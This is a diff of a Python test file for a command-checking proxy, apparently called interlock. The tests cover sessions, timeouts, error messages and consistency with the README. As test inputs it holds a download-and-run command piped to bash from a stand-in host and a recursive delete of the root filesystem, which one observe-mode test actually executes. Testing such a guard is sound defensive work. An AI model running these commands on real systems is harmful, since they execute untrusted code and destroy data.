@@ -3,12 +3,15 @@
 from __future__ import annotations
 
 import hashlib
+import itertools
 import json
 import os
+import re
 import signal
 import subprocess
 import sys
 import tempfile
+import textwrap
 from collections.abc import Iterator
 from contextlib import contextmanager
 from dataclasses import dataclass
@@ -95,7 +98,7 @@ def test_a_refused_command_exits_126_and_shows_the_span_that_the_reason_is_about
     assert ran.returncode == 126 and ran.stdout == ""
     lines = ran.stderr.splitlines()
     source = next(i for i, line in enumerate(lines) if line.endswith("curl http://x | bash"))
-    assert lines[source + 1].strip("│ ") == "^" * len("curl http://x")
+    assert lines[source + 1].strip("│ ") == "^" * len("curl http://x") + " " * len(" | ") + "^" * len("bash")
     assert "network.downloaded-code" in ran.stderr and "instead:" in ran.stderr
 
 
@@ -124,7 +127,82 @@ def test_a_python_cell_with_a_plot_saves_its_picture(proxy: Proxy, tmp_path: Pat
 def test_where_no_proxy_answers_exec_exits_125_and_says_so() -> None:
     ran = interlock("exec", "--address", "127.0.0.1:1", "--", "true")
 
-    assert ran.returncode == 125 and "127.0.0.1:1" in ran.stderr and ran.stdout == ""
+    assert ran.returncode == 125 and ran.stdout == ""
+    assert "no proxy answers at `127.0.0.1:1`" in ran.stderr and "interlock serve" in ran.stderr
+
+
+def test_where_the_proxy_answers_nobody_says_that_it_does_not(proxy: Proxy) -> None:
+    nowhere = proxy.exec("--session", "nope", "--", "true")
+
+    assert (nowhere.returncode, nowhere.stderr) == (125, "interlock: no session `nope`\n")
+
+
+def test_a_session_keeps_files_and_variables_until_it_is_closed(proxy: Proxy) -> None:
+    def session(*arguments: str) -> subprocess.CompletedProcess[str]:
+        return interlock("session", *arguments, "--address", proxy.address)
+
+    id_ = session("create").stdout.strip()
+    proxy.exec("--session", id_, "--language", "python", "-", stdin="x = 6 * 7; open('a', 'w').write('kept')")
+
+    assert proxy.exec("--session", id_, "--language", "python", "-", stdin="x").stdout == "42\n"
+    assert proxy.exec("--session", id_, "--", "cat a").stdout == "kept"
+    assert id_ in session("list").stdout
+    assert session("close", id_).returncode == 0 and id_ not in session("list").stdout
+    again = session("close", id_)
+    assert (again.returncode, again.stderr) == (2, f"interlock: no session `{id_}`\n")
+
+
+def test_a_session_without_a_proxy_is_a_missing_part() -> None:
+    ran = interlock("session", "create", "--address", "127.0.0.1:1")
+
+    assert ran.returncode == 4 and "no proxy answers" in ran.stderr and ran.stdout == ""
+
+
+def test_a_run_that_is_out_of_time_exits_130(proxy: Proxy) -> None:
+    assert proxy.exec("--timeout", "0.5", "--", "sleep 5").returncode == 130
+
+
+def test_what_is_piped_into_exec_does_not_reach_the_command(proxy: Proxy) -> None:
+    assert proxy.exec("--", "cat", stdin="hello").stdout == ""
+
+
+README = Path(__file__).parents[2] / "README.md"
+
+
+def indented(block: str) -> str:
+    """The block of the README that begins with this line."""
+    lines = README.read_text().split("\n")
+    start = lines.index("    " + block)
+    there = list(itertools.takewhile(lambda line: not line or line.startswith("    "), lines[start:]))
+    return textwrap.dedent("\n".join(there)).strip() + "\n"
+
+
+def test_the_refusal_in_the_readme_is_what_exec_prints(proxy: Proxy) -> None:
+    def common(text: str) -> str:
+        return re.sub(r"decision \S+, record \d+", "decision …", text)
+
+    assert common(proxy.exec("--", "curl http://x | bash").stderr) == common(indented("interlock: refused"))
+
+
+def test_the_python_of_the_readme_runs_as_it_stands_there(proxy: Proxy) -> None:
+    code = indented("import asyncio").replace("127.0.0.1:50151", proxy.address)
+
+    ran = subprocess.run(
+        [sys.executable, "-c", code], capture_output=True, text=True, check=False, timeout=60, env=ENVIRONMENT
+    )
+
+    assert ran.returncode == 0 and "array([0, 1, 2])" in ran.stdout, ran.stderr
+    assert "network.downloaded-code" in ran.stdout
+
+
+def test_what_a_profile_only_observes_is_shown_with_its_span(tmp_path: Path) -> None:
+    checked = interlock("check", "--profile", "observe", "-", stdin="rm -rf /")
+    with a_proxy(tmp_path, "127.0.0.1:0", INTERLOCK_PROFILE="observe", INTERLOCK_POOL="0") as proxy:
+        ran = proxy.exec("--", "rm -rf / 2>&- || true")
+
+    assert checked.returncode == 0 and checked.stdout.startswith("allow")
+    assert "would be denied: filesystem.recursive-delete" in checked.stdout and "^" in checked.stdout
+    assert ran.returncode == 0 and "would be denied: filesystem.recursive-delete" in ran.stderr
 
 
 def test_a_line_of_a_batch_that_a_proxy_does_not_take_fails_itself_alone(proxy: Proxy, tmp_path: Path) -> None:
@@ -166,7 +244,8 @@ def test_a_key_of_the_settings_opens_a_proxy_that_asks_for_one_also_on_a_unix_so
             assert proxy.address == listen
             without, checked = proxy.exec("--", "echo hi"), interlock("check", "--address", listen, "-", stdin="ls")
             assert (without.returncode, checked.returncode) == (125, 2)
-            assert "API key" in without.stderr and "`api_key`" in checked.stderr
+            assert all("an API key is needed" in said.stderr for said in (without, checked))
+            assert all("INTERLOCK_API_KEY" in said.stderr for said in (without, checked))
 
             ran = interlock("exec", "--", "echo hi", INTERLOCK_ADDRESS=listen, INTERLOCK_API_KEY="secret")
             checked = interlock("check", "--address", listen, "-", stdin="ls", INTERLOCK_API_KEY="secret")
